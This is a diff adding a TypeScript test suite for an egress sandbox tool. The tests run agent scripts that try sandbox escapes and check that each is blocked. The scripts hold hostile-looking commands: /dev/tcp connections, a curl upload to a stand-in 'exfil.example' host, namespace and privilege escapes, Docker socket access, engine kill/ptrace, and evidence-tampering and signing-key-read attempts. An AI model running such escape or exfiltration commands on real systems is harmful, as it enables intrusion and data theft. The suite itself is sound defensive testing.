@@ -1,0 +1,357 @@
+// The attack suite: each attack is an agent script run through `pipelock-egress run` (real
+// namespaces, users, firewall), aimed only at loopback and local files. A canary on the host's
+// loopback counts anything a broken boundary lets through; the script reports each attempt as
+// "blocked NAME" or "BREACH NAME: detail". Attacks the engine sees must leave block receipts.
+import { after, afterEach, before, beforeEach, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { chmodSync, copyFileSync, existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:net';
+import { dirname, join } from 'node:path';
+import { startOrigin, type Origin } from '../engine/helpers.js';
+import {
+  assertNothingLeft,
+  blocked,
+  evidenceOf,
+  requireBuiltCli,
+  runAgent,
+  snapshot,
+  startCanary,
+  type AgentRun,
+  type AgentRunOptions,
+  type Canary,
+  type MachineSnapshot,
+} from './harness.js';
+
+let origin: Origin;
+let canary: Canary;
+let canary6: Server;
+let canary6Port = 0;
+let canary6Hits = 0;
+let machine: MachineSnapshot;
+
+before(async () => {
+  requireBuiltCli();
+  origin = await startOrigin((_req, res) => res.end('origin-ok'));
+  canary = await startCanary();
+  canary6 = createServer((socket) => {
+    canary6Hits++;
+    socket.end();
+  });
+  await new Promise<void>((done) => canary6.listen(0, '::1', done));
+  canary6Port = (canary6.address() as { port: number }).port;
+});
+after(async () => {
+  await origin.close();
+  await canary.close();
+  canary6.close();
+});
+beforeEach(() => (machine = snapshot()));
+afterEach(() => {
+  assert.equal(canary.hits, 0, 'a connection reached the canary on the host loopback');
+  assert.equal(canary6Hits, 0, 'a connection reached the IPv6 canary on the host loopback');
+  assertNothingLeft(machine);
+});
+
+const POLICY = (): string => `version: "1.0"
+egress:
+  - destination: "127.0.0.1:${origin.port}"
+    methods: ["GET"]
+default_deny: true
+`;
+
+/** Shell helpers every attack script starts with: try CMD, report it. */
+const PRELUDE = `set -u
+canary=$1 udp=$2 canary6=$3 origin=$4
+attempt() { local name=$1; shift; if "$@" >/dev/null 2>&1; then echo "BREACH $name: $*"; else echo "blocked $name"; fi; }
+`;
+
+let workdirOfRun = '';
+const currentWorkdir = (): string => workdirOfRun;
+
+async function attack(
+  script: string,
+  extra: Partial<AgentRunOptions> = {},
+): Promise<AgentRun & { outcomes: string[] }> {
+  const run = await runAgent({
+    policy: POLICY(),
+    // The attack runs in a subshell: whatever it changes (variables, cwd) stays there.
+    script: `${PRELUDE}(\n${script}\n)\necho "proxy-still-works $(curl -sS --noproxy '' --max-time 10 http://127.0.0.1:$origin/)"\n`,
+    args: [String(canary.port), String(canary.udpPort), String(canary6Port), String(origin.port)],
+    ...extra,
+    prepare: (workdir) => {
+      workdirOfRun = workdir;
+      extra.prepare?.(workdir);
+    },
+  });
+  assert.equal(run.code, 0, `${run.stdout}\n${run.stderr}`);
+  const outcomes = run.stdout.split('\n').filter((line) => /^(blocked|BREACH) /.test(line));
+  assert.deepEqual(
+    outcomes.filter((line) => line.startsWith('BREACH')),
+    [],
+    run.stdout,
+  );
+  // The engine outlived the attack and the evidence is whole.
+  assert.match(run.stdout, /^proxy-still-works origin-ok$/m);
+  evidenceOf(run);
+  return { ...run, outcomes };
+}
+
+function assertBlocked(outcomes: readonly string[], names: readonly string[]): void {
+  assert.deepEqual(
+    outcomes
+      .filter((line) => line.startsWith('blocked '))
+      .map((line) => line.slice(8))
+      .sort(),
+    [...names].sort(),
+  );
+}
+
+test("direct TCP to the host loopback, v4 and v6: the agent's loopback is not the host's", async () => {
+  const { outcomes } = await attack(`
+attempt bash-dev-tcp bash -c "exec 3<>/dev/tcp/127.0.0.1/$canary"
+attempt curl-noproxy curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:$canary/
+attempt curl-ipv6 curl -sS -g --noproxy '*' --max-time 5 "http://[::1]:$canary6/"
+attempt bash-dev-tcp-ipv6 bash -c "exec 3<>/dev/tcp/::1/$canary6"
+attempt other-loopback-address curl -sS --noproxy '*' --max-time 5 http://127.0.0.2:$canary/
+echo x > /dev/udp/127.0.0.1/$udp 2>/dev/null; echo "sent-udp"
+`);
+  assertBlocked(outcomes, [
+    'bash-dev-tcp',
+    'curl-noproxy',
+    'curl-ipv6',
+    'bash-dev-tcp-ipv6',
+    'other-loopback-address',
+  ]);
+});
+
+test('DNS: resolv.conf points at the namespace, lookups fail, port 53 is nobody', async () => {
+  const { stdout, outcomes } = await attack(`
+grep -q '^nameserver 127.0.0.1$' /etc/resolv.conf && echo "resolver-is-own-loopback"
+attempt getent-hosts getent hosts registry.npmjs.org
+attempt getent-ahosts getent ahosts example.com
+attempt tcp-53 bash -c "exec 3<>/dev/tcp/127.0.0.1/53"
+attempt curl-unproxied-name curl -sS --noproxy '*' --max-time 5 http://example.com/
+`);
+  assert.match(stdout, /^resolver-is-own-loopback$/m);
+  assertBlocked(outcomes, ['getent-hosts', 'getent-ahosts', 'tcp-53', 'curl-unproxied-name']);
+});
+
+/** Unix socket servers at the side-channel paths, world-connectable: only the mask stops the agent. */
+const SOCKETS = [
+  '/run/docker.sock',
+  '/run/containerd/containerd.sock',
+  '/run/nscd/socket',
+  '/run/systemd/resolve/io.systemd.Resolve',
+  '/run/dbus/system_bus_socket',
+  '/run/user/0/podman/podman.sock',
+];
+
+test('side channels: Docker, containerd, podman, nscd, systemd-resolved and D-Bus sockets are masked', async () => {
+  const made: string[] = [];
+  const servers: Server[] = [];
+  let hits = 0;
+  let agentRunning = false;
+  for (const path of SOCKETS) {
+    assert.ok(!existsSync(path), `${path} exists on this machine; the test would disturb it`);
+    if (!existsSync(dirname(path))) {
+      mkdirSync(dirname(path), { recursive: true });
+      made.push(dirname(path));
+    }
+    // Root's own tools (id, useradd) consult nscd during setup: only the agent's window counts.
+    const server = createServer((socket) => {
+      if (agentRunning) hits++;
+      socket.on('error', () => undefined);
+      socket.end('HTTP/1.1 200 OK\r\n\r\n');
+    });
+    await new Promise<void>((done) => server.listen(path, done));
+    chmodSync(path, 0o777);
+    servers.push(server);
+  }
+  try {
+    const connect = (path: string): string =>
+      `attempt ${basenameOf(path)} perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => "${path}") or exit 1'`;
+    const { outcomes } = await attack(
+      `
+${SOCKETS.map(connect).join('\n')}
+attempt docker-via-var-run curl -sS --max-time 5 --unix-socket /var/run/docker.sock http://localhost/version
+attempt unmask-in-user-namespace unshare -rm sh -c 'umount /run/docker.sock && curl -sS --max-time 5 --unix-socket /run/docker.sock http://localhost/'
+`,
+      {
+        onStderr: [
+          { text: 'starting agent.sh', action: () => (agentRunning = true) },
+          { text: 'agent exited', action: () => (agentRunning = false) },
+        ],
+      },
+    );
+    assertBlocked(outcomes, [
+      ...SOCKETS.map(basenameOf),
+      'docker-via-var-run',
+      'unmask-in-user-namespace',
+    ]);
+    assert.equal(hits, 0, 'a side-channel socket was reached');
+  } finally {
+    for (const server of servers) server.close();
+    for (const path of SOCKETS) rmSync(path, { force: true });
+    for (const dir of made.reverse()) rmSync(dir, { recursive: true, force: true });
+  }
+});
+
+function basenameOf(path: string): string {
+  return `socket-${path.split('/').at(-1) ?? path}`;
+}
+
+test('raw sockets and ping sockets are refused (no CAP_NET_RAW, no ping group)', async () => {
+  const { outcomes } = await attack(`
+attempt raw-socket perl -MSocket -e 'socket(my $s, PF_INET, SOCK_RAW, 1) or exit 1'
+attempt raw-socket-v6 perl -MSocket -e 'socket(my $s, PF_INET6, SOCK_RAW, 58) or exit 1'
+attempt packet-socket perl -e 'socket(my $s, 17, 3, 0) or exit 1'
+attempt icmp-ping-socket perl -MSocket -e 'socket(my $s, PF_INET, SOCK_DGRAM, 1) or exit 1'
+`);
+  assertBlocked(outcomes, ['raw-socket', 'raw-socket-v6', 'packet-socket', 'icmp-ping-socket']);
+});
+
+test('privilege: sudo, su, a setuid-root binary, nsenter, unshare -n, mount', async () => {
+  const { stdout, outcomes } = await attack(
+    `
+attempt sudo sudo -n true
+attempt su su -c true root
+euid=$(./id-setuid -u); [ "$euid" = 0 ] && echo "BREACH setuid: euid $euid" || echo "blocked setuid-root"
+attempt nsenter-net nsenter --net=/proc/1/ns/net true
+attempt nsenter-target nsenter -t 1 -m -n true
+attempt unshare-net unshare -n true
+attempt unshare-user-net-escape unshare -rn sh -c "exec 3<>/dev/tcp/127.0.0.1/$canary"
+attempt mount-tmpfs mount -t tmpfs none /tmp
+attempt umount-resolv umount /etc/resolv.conf
+attempt umount-proc umount /proc
+grep -E '^(CapEff|CapBnd|NoNewPrivs):' /proc/self/status
+`,
+    {
+      prepare: (workdir) => {
+        const binary = join(workdir, 'id-setuid');
+        copyFileSync('/usr/bin/id', binary);
+        chmodSync(binary, 0o4755);
+      },
+    },
+  );
+  assertBlocked(outcomes, [
+    'sudo',
+    'su',
+    'setuid-root',
+    'nsenter-net',
+    'nsenter-target',
+    'unshare-net',
+    'unshare-user-net-escape',
+    'mount-tmpfs',
+    'umount-resolv',
+    'umount-proc',
+  ]);
+  assert.match(stdout, /^CapEff:\s+0000000000000000$/m);
+  assert.match(stdout, /^CapBnd:\s+0000000000000000$/m);
+  assert.match(stdout, /^NoNewPrivs:\s+1$/m);
+});
+
+test('evidence and keys: the signing key is unreadable, evidence cannot be written, deleted or listed', async () => {
+  const { stdout, outcomes } = await attack(`
+ls /run/pipelock-egress/
+engine=$(echo /run/pipelock-egress/pe-*/engine)
+echo "engine-entries: $(ls -A $engine 2>/dev/null | wc -l)"
+attempt read-signing-key test -n "$(cat $engine/signing-key 2>/dev/null)"
+attempt write-evidence sh -c "echo forged >> $engine/evidence/evidence-proxy-0.jsonl"
+attempt create-evidence touch $engine/evidence/evidence-proxy-1.jsonl
+attempt delete-evidence rm $engine/evidence/evidence-proxy-0.jsonl
+attempt delete-engine-dir rm -rf $engine
+attempt write-run-state sh -c "echo {} > /run/pipelock-egress/pe-*/state.json"
+attempt write-output mkdir out
+attempt replace-script sh -c "echo 'echo pwned' > /run/pipelock-egress/pe-*/agent/script/agent.sh"
+`);
+  assert.match(
+    stdout,
+    /^engine-entries: 0$/m,
+    'the engine directory is masked inside the boundary',
+  );
+  assertBlocked(outcomes, [
+    'read-signing-key',
+    'write-evidence',
+    'create-evidence',
+    'delete-evidence',
+    'delete-engine-dir',
+    'write-run-state',
+    'write-output',
+    'replace-script',
+  ]);
+});
+
+test("processes: only the agent's own are visible; the engine cannot be signalled or traced", async () => {
+  let enginePid = 0;
+  const { stdout, outcomes } = await attack(
+    `
+own=$(ls /proc | grep -cE '^[0-9]+$')
+for pid in $(ls /proc | grep -E '^[0-9]+$'); do
+  uid=$(awk '/^Uid:/ {print $2}' /proc/$pid/status 2>/dev/null)
+  [ -n "$uid" ] && [ "$uid" != "$(id -u)" ] && echo "BREACH foreign-process: $pid uid $uid"
+done
+echo "pid1: $(tr '\\0' ' ' < /proc/1/cmdline)"
+for i in $(seq 1 100); do [ -s engine.pid ] && break; sleep 0.1; done
+engine=$(cat engine.pid)
+attempt kill-engine kill -9 "$engine"
+attempt ptrace-engine perl -e 'exit(syscall(101, 16, $ARGV[0], 0, 0) == 0 ? 0 : 1)' "$engine"
+kill -9 -1 2>/dev/null; echo "killed-everything-visible"
+`,
+    {
+      onStderr: [
+        {
+          text: 'starting agent.sh',
+          action: () => {
+            enginePid = Number(
+              execFileSync('pgrep', ['-u', 'pipelock-host', '-o'], { encoding: 'utf8' }).trim(),
+            );
+            writeFileSync(join(currentWorkdir(), 'engine.pid'), `${enginePid}\n`);
+          },
+        },
+      ],
+    },
+  );
+  assert.ok(enginePid > 0);
+  assert.match(
+    stdout,
+    /^pid1: \S*\/bash \/run\/pipelock-egress\/pe-[0-9a-f]+\/agent\/script\/agent\.sh /m,
+  );
+  assert.match(stdout, /^killed-everything-visible$/m);
+  assertBlocked(outcomes, ['kill-engine', 'ptrace-engine']);
+});
+
+test('unsetting the proxy variables leaves no way out', async () => {
+  const { outcomes } = await attack(`
+unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy
+attempt direct-http curl -sS --max-time 5 http://127.0.0.1:$canary/
+attempt direct-name curl -sS --max-time 5 http://registry.npmjs.org/
+attempt direct-https curl -sS --max-time 5 https://registry.npmjs.org/
+`);
+  assertBlocked(outcomes, ['direct-http', 'direct-name', 'direct-https']);
+});
+
+test('CONNECT and absolute-form requests to disallowed destinations: 403 and a block receipt each', async () => {
+  const run = await attack(`
+attempt absolute-form-canary curl -sS --fail --noproxy '' --max-time 5 http://127.0.0.1:$canary/
+attempt absolute-form-name curl -sS --fail --noproxy '' --max-time 5 http://exfil.example/upload?d=1
+attempt connect-name curl -sS --fail --noproxy '' --max-time 5 https://exfil.example/
+attempt connect-tunnel-canary curl -sS --fail -p --noproxy '' --max-time 5 http://127.0.0.1:$canary/
+attempt connect-allowed-host-other-port curl -sS --fail -p --noproxy '' --max-time 5 http://127.0.0.1:1/
+`);
+  assertBlocked(run.outcomes, [
+    'absolute-form-canary',
+    'absolute-form-name',
+    'connect-name',
+    'connect-tunnel-canary',
+    'connect-allowed-host-other-port',
+  ]);
+  const targets = blocked(evidenceOf(run).decisions).map((b) => b.target);
+  assert.deepEqual(targets, [
+    `http://127.0.0.1:${canary.port}/`,
+    'http://exfil.example/upload?d=1',
+    'exfil.example:443',
+    `127.0.0.1:${canary.port}`,
+    '127.0.0.1:1',
+  ]);
+});
